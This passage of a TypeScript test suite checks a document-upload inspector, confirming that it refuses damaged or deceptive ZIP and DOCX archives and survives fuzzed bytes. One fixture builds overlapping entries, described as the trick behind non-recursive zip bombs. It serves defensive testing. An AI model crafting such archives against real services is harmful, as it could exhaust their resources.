    const wrongCrc = docx.map((entry) => (entry === document ? { ...entry, crc32: 0x0bad_c0de } : entry));
    expect(await inspect(buildZip(wrongSize), "resume.docx")).toEqual(refused("corrupt-office"));
    expect(await inspect(buildZip(wrongCrc), "resume.docx")).toEqual(refused("corrupt-office"));
  });

  it("refuses 1001 entries and accepts 1000", async () => {
    const padding = (count: number) => Array.from({ length: count }, (_, index) => ({ name: `word/media/p${index}.xml`, content: "" }));
    expect(await inspect(buildZip([...docxEntries(), ...padding(997)]), "resume.docx")).toMatchObject({
      ok: true,
      kind: "docx",
    });
    expect(await inspect(buildZip([...docxEntries(), ...padding(998)]), "resume.docx")).toEqual(refused("too-many-entries"));
  });
});

describe("inspectDocument: damaged or deceptive archives", () => {
  it("refuses a content-types part whose CRC does not match", async () => {
    const entries = docxEntries().map((entry) => (entry.name === "[Content_Types].xml" ? { ...entry, crc32: 0x12345678 } : entry));
    expect(await inspect(buildZip(entries), "resume.docx")).toEqual(refused("corrupt-office"));
  });

  it("refuses a package whose main part is missing", async () => {
    const entries = docxEntries().filter((entry) => entry.name !== "word/document.xml");
    expect(await inspect(buildZip(entries), "resume.docx")).toEqual(refused("corrupt-office"));
  });

  it("refuses two content-types parts", async () => {
    const entries = docxEntries();
    const contentTypes = entries[0] as ZipFixtureEntry;
    expect(await inspect(buildZip([...entries, { ...contentTypes, name: "[content_types].xml" }]))).toEqual(refused("corrupt-office"));
  });

  it("refuses a package that names both a Word and an Excel main part", async () => {
    const entries = [
      ...docxEntries().filter((entry) => entry.name !== "[Content_Types].xml"),
      {
        name: "[Content_Types].xml",
        content: contentTypesXml({
          "/word/document.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
          "/xl/workbook.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        }),
      },
      { name: "xl/workbook.xml", content: "<workbook/>" },
    ];
    expect(await inspect(buildZip(entries), "resume.docx")).toEqual(refused("corrupt-office"));
  });

  it("refuses an archive cut short before its central directory", async () => {
    const docx = buildZip(docxEntries());
    expect(await inspect(docx.subarray(0, docx.length - 40), "resume.docx")).toEqual(refused("corrupt-office"));
  });

  it("refuses entries whose data overlap, the trick behind non-recursive zip bombs", async () => {
    const entries: ZipFixtureEntry[] = [...docxEntries(), { name: "word/media/a.bin", content: "x", localHeaderOffset: 0 }];
    expect(await inspect(buildZip(entries), "resume.docx")).toEqual(refused("corrupt-office"));
  });

  it("refuses a central directory that lists more records than its end record admits", async () => {
    const docx = buildZip(docxEntries(), { declaredEntryCount: 2 });
    expect(await inspect(docx, "resume.docx")).toEqual(refused("corrupt-office"));
  });

  it("refuses a stored entry whose two sizes disagree", async () => {
    const entries = [...docxEntries(), { name: "word/media/a.bin", content: "abc", uncompressedSize: 30 }];
    expect(await inspect(buildZip(entries), "resume.docx")).toEqual(refused("corrupt-office"));
  });

  it("refuses an archive with an encrypted entry", async () => {
    const entries = [...docxEntries(), { name: "word/secret.xml", content: "x", flags: 0x0001 }];
    expect(await inspect(buildZip(entries), "resume.docx")).toEqual(refused("encrypted"));
  });

  it("refuses a content-types part that is not XML", async () => {
    const entries = docxEntries().map((entry) => (entry.name === "[Content_Types].xml" ? { ...entry, content: Uint8Array.of(0xff, 0x00, 0xc3, 0x28) } : entry));
    expect(await inspect(buildZip(entries), "resume.docx")).toEqual(refused("corrupt-office"));
  });
});

describe("inspectDocument: hostile input never throws", () => {
  const reasons = new Set<string>(DOCUMENT_REFUSALS);
  const isVerdict = (verdict: Awaited<ReturnType<typeof inspectDocument>>) =>
    verdict.ok ? ["pdf", "docx", "xlsx", "jpeg", "png", "heic"].includes(verdict.kind) : reasons.has(verdict.reason);

  it("answers a verdict for any bytes", async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 512 }), fc.string(), async (bytes, fileName) => {
        expect(isVerdict(await inspectDocument({ bytes, fileName }))).toBe(true);
      }),
      { numRuns: 200 },
    );
  });

  it.each([
    ["JPEG", jpegPhoto],
    ["PNG", pngPhoto],
    ["HEIC", heicPhoto],
  ] as const)("answers a verdict for a %s photo with random bytes overwritten", async (_, photo) => {
    const original = photo();
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat({ max: original.length - 1 }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }),
        async (edits) => {
          const bytes = original.slice();
          for (const [position, value] of edits) bytes[position] = value;
          expect(isVerdict(await inspectDocument({ bytes, fileName: "photo.jpg" }))).toBe(true);
        },
      ),
      { numRuns: 200 },
    );
  });

  it("answers a verdict for a DOCX with random bytes overwritten", async () => {
    const docx = buildZip(docxEntries());
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat({ max: docx.length - 1 }), fc.integer({ min: 0, max: 255 })), {
          minLength: 1,
          maxLength: 8,
        }),
        async (edits) => {
          const bytes = docx.slice();
          for (const [position, value] of edits) bytes[position] = value;
          expect(isVerdict(await inspectDocument({ bytes, fileName: "resume.docx" }))).toBe(true);
        },
      ),
      { numRuns: 300 },
    );
  });
});
